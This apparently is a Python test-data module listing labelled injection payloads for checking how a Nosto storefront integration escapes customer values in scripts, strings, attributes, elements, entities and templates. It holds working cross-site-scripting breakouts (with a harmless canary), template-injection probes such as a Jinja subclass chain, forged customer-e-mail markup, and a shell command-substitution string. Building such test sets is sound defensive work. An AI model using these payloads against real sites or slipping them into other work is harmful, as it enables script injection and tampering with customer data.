r"""Values written by hand that get out of what holds them: scripts, strings, attributes, elements, templates."""

from __future__ import annotations

from support.tricks.payloads import Section

__all__ = ["WRITTEN_CODE"]

WRITTEN_CODE: tuple[Section, ...] = (
    # Out of a script element: its text is read by the HTML parser first, whatever JavaScript thinks of quotes.
    (
        "script-data-states",
        (
            ("script-end", "</script><script>window.canary=1</script>"),  # the classic
            ("script-end-upper", "</SCRIPT><img src=x onerror=window.canary=1>"),  # names of elements have no case
            ("script-end-blank", "</script ><svg onload=window.canary=1>"),  # an end tag may have blanks
            ("script-end-line-feed", "</script\n><svg onload=window.canary=1>"),  # and line feeds
            ("script-end-slash", "</script/><svg onload=window.canary=1>"),  # and a slash
            ("script-end-attribute", "</script x><svg onload=window.canary=1>"),  # and attributes
            ("script-end-tab", "</script\t><svg/onload=window.canary=1>"),  # a slash separates attributes as well
            ("script-end-open", "</script"),  # ours closes it
            ("script-end-half", "</scr"),  # joined with what follows
            # The next </script> then closes nothing: the rest of the page is code.
            ("script-double-escaped", "<!--<script>"),
            ("script-double-escaped-blank", "<!-- <script "),
            ("script-double-escaped-end", "<!--<script></script>-->"),
            ("script-escaped", "<!--"),  # also a comment to the end of the line in JavaScript
            ("script-escaped-end", "-->"),  # a line that begins so is a comment in JavaScript
            ("script-escaped-end-line", "\n--> window.canary=1"),
            ("script-escaped-bang", "--!>"),  # ends a comment in HTML, too
            ("script-cdata", "]]><script>window.canary=1</script>"),  # leaves a CDATA section in XHTML
            ("script-cdata-begin", "<![CDATA["),
            ("less-than", "<"),
            ("greater-than", ">"),
            ("slash", "/"),
        ),
    ),
    # Out of a JavaScript string.
    (
        "string-breakouts",
        (
            ("double-quote", '"'),
            ("single-quote", "'"),
            ("backtick", "`"),
            ("string-break", '"});window.canary=1;//'),
            ("string-break-single", "'});window.canary=1;//"),
            ("string-break-plus", '"+(window.canary=1)+"'),
            ("string-break-minus", "'-(window.canary=1)-'"),
            ("string-break-comma", '",window.canary=1,"'),
            ("string-break-key", '","email":"john.doe@example.com'),  # one more key: the last one wins
            ("string-break-after-backslash", '\\"});window.canary=1;//'),  # where only quotes are escaped
            ("string-break-after-two", '\\\\"});window.canary=1;//'),
            ("backslash", "\\"),  # escapes the closing quote
            ("backslashes-odd", "\\\\\\"),
            ("backslash-end", "Jane\\"),
            ("backslash-line-feed", "Jane\\\nDoe"),  # a continued line
            ("backslash-n", "Jane\\nDoe"),  # a backslash and the letter n, no line feed
            ("backslash-u0000", "Jane\\u0000Doe"),  # the six characters, which are also what joined values are split at
            ("backslash-backslash-u0000", "Jane\\\\u0000Doe"),
            ("backslash-u005c", "\\u005c"),
            ("backslash-u0022", "\\u0022});window.canary=1;//"),  # for who decodes twice
            ("backslash-u-open", "\\u"),  # a syntax error if it arrives unescaped
            ("backslash-u-brace", "\\u{1F600}"),
            ("backslash-x", "\\x3cscript\\x3e"),
            ("backslash-x-open", "\\x"),
            ("backslash-octal", "\\0\\1\\42"),
            ("line-feed", "Jane\nDoe"),  # ends a string, and a Markdown HTML block
            ("line-feeds", "Jane\n\n\n    Doe"),
            ("carriage-return", "Jane\rDoe"),
            ("carriage-return-line-feed", "Jane\r\nDoe"),
            ("tab", "Jane\tDoe"),
            ("line-separator", "Jane\u2028Doe"),  # a line terminator in JavaScript, no white space in HTML
            ("paragraph-separator", "Jane\u2029window.canary=1"),
            ("next-line", "Jane\u0085Doe"),  # splits lines in Python, is an ellipsis in windows-1252
            ("line-comment-end", "\u2028window.canary=1//"),  # where a statement stands behind //
            ("block-comment-end", "*/window.canary=1/*"),
            ("block-comment", "/*"),
            ("line-comment", "//"),
            ("template-literal", "${window.canary=1}"),
            ("template-literal-break", "`;window.canary=1;`"),
            ("template-literal-nested", "`${`${window.canary=1}`}`"),
            ("regular-expression", "/x/.constructor"),
            ("import", "import('https://example.com/x.js')"),
            ("arrow", "=>{window.canary=1}"),
            ("parentheses", "});(()=>{window.canary=1})();({"),
        ),
    ),
    (
        "urls",
        (
            ("url-javascript", "javascript:window.canary=1"),
            ("url-percent", "%22%7D);window.canary=1//"),  # decoded in href="javascript:…"
            ("url-percent-broken", "%"),  # a malformed sequence
            ("url-data", "data:text/html,<script>window.canary=1</script>"),
        ),
    ),
    # Out of an attribute, quoted either way or not at all.
    (
        "attribute-breakouts",
        (
            ("attribute-double", '" onmouseover="window.canary=1'),
            ("attribute-single", "' onmouseover='window.canary=1"),
            ("attribute-backtick", "` onmouseover=`window.canary=1"),  # old browsers quote with it
            ("attribute-unquoted", "x onmouseover=window.canary=1"),
            ("attribute-slash", "x/onmouseover=window.canary=1"),
            ("attribute-equals", "="),
            ("attribute-end", "><svg onload=window.canary=1>"),
            ("attribute-end-double", '"><svg onload=window.canary=1>'),
            ("attribute-end-single", "'><svg onload=window.canary=1>"),
            ("attribute-autofocus", '" autofocus tabindex=1 onfocus="window.canary=1'),
            ("attribute-style", '" style="display:block'),  # would show the block
            ("attribute-class", '" class="nosto_product'),
        ),
    ),
    # Out of element text.
    (
        "element-breakouts",
        (
            ("element", "<img src=x onerror=window.canary=1>"),
            ("element-unclosed", "<img src=x onerror=window.canary=1 "),
            ("element-end", "</span></div><script>window.canary=1</script>"),
            ("element-forged", '</span><span class="email">john.doe@example.com</span><span>'),  # a second e-mail
            (
                "element-forged-block",
                '</span></div><div class="nosto_customer"><span class="email">john.doe@example.com</span>',
            ),
            ("element-comment", "<!-- Jane"),
            ("element-comment-bogus", "<!Jane>"),
            ("element-processing-instruction", "<?php echo 1 ?>"),
            ("element-end-nameless", "</>"),
            ("element-textarea", "</textarea><script>window.canary=1</script>"),
            ("element-title", "</title><script>window.canary=1</script>"),
            ("element-style", "</style><script>window.canary=1</script>"),
            ("element-noscript", "</noscript><script>window.canary=1</script>"),
            ("element-template", "</template><script>window.canary=1</script>"),
            ("element-select", "</select><img src=x onerror=window.canary=1>"),
        ),
    ),
    (
        "namespaces",
        (
            ("element-svg", "<svg><script>window.canary=1</script></svg>"),
            (
                "element-math",
                "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=window.canary=1>'>",
            ),
        ),
    ),
    (
        "element-breakouts",
        (
            ("element-plaintext", "<plaintext>"),  # the rest of the page becomes text
            ("element-base", '<base href="https://example.com/">'),
            ("element-meta", '<meta http-equiv="refresh" content="0;url=https://example.com/">'),
            ("element-frame", "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>"),
            ("element-link", '<link rel="stylesheet" href="https://example.com/x.css">'),
            ("element-details", "<details open ontoggle=window.canary=1>"),
            ("element-placement", '<div class="nosto_element" id="frontpage-nosto-1"></div>'),
        ),
    ),
    # Text that says what a character reference says.
    (
        "entities",
        (
            ("entity", "&amp;"),
            ("entity-less-than", "&lt;script&gt;window.canary=1&lt;/script&gt;"),
            ("entity-without-semicolon", "&lt&gt&amp&quot"),  # parsers take these
            ("entity-decimal", "&#60;script&#62;"),
            ("entity-hexadecimal", "&#x3c;script&#x3E;"),
            ("entity-zeros", "&#0000060;b"),
            ("entity-quote", "&quot;);window.canary=1//"),  # decoded in onclick="…"
            ("entity-nul", "&#0;"),
            ("entity-surrogate", "&#xD800;"),
            ("entity-out-of-range", "&#x110000;"),
            ("entity-windows-1252", "&#128;&#159;"),  # parsers make other characters of these
            ("entity-twice", "&amp;amp;lt;"),
            ("entity-two-characters", "&NotEqualTilde;&bne;"),
            ("ampersand", "&"),
            ("ampersands", "Doe & Doe && Sons &"),
            ("semicolon", ";"),
            ("hash", "#60;"),  # after an ampersand of another value
        ),
    ),
    # A second pass through a template engine, on the server or in the page.
    (
        "template-injection",
        (
            ("jinja-expression", "{{ 7*7 }}"),
            ("jinja-statement", "{% if true %}x{% endif %}"),
            ("jinja-statement-end", "%}{{ 7*7 }}"),
            ("jinja-comment", "{# x #}"),
            ("jinja-raw-end", "{% endraw %}{{ 7*7 }}"),
            ("jinja-tag", "{% nosto_customer email='john.doe@example.com' %}"),
            ("jinja-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
            ("jinja-line-statement", "\n# for x in y\n"),
            ("django-tag", "{% load nosto %}{% debug %}"),
            ("vue-constructor", "{{constructor.constructor('window.canary=1')()}}"),
            ("vue-helper", "{{_c.constructor('window.canary=1')()}}"),
            ("angular-on", "{{$on.constructor('window.canary=1')()}}"),
            ("angular-brackets", "[[constructor.constructor('window.canary=1')()]]"),  # the symbols beside Jinja
            ("alpine", '<div x-data x-init="window.canary=1"></div>'),
            ("petite-vue", '<div v-scope="{a: window.canary=1}">{{a}}</div>'),
            ("erb", "<%= 7*7 %>"),
            ("php", "<?= 7*7 ?>"),
            ("mustache", "{{{x}}}"),
            ("braces", "{}"),
            ("braces-open", "{{"),
            ("braces-close", "}}"),
            ("brackets", "]]"),
        ),
    ),
    (
        "words",
        (
            ("format-percent", "%s %(name)s %%"),  # Python's and C's
            ("format-braces", "{0.__class__} {name!r}"),
            ("format-dollar", "$name ${name} $$"),
            ("shell", "$(id) `id` ; id | id && id"),
            ("replacement", "$& $1 $` $' \\1 \\g<0>"),  # what a replacement text means to replace() and re.sub()
        ),
    ),
)
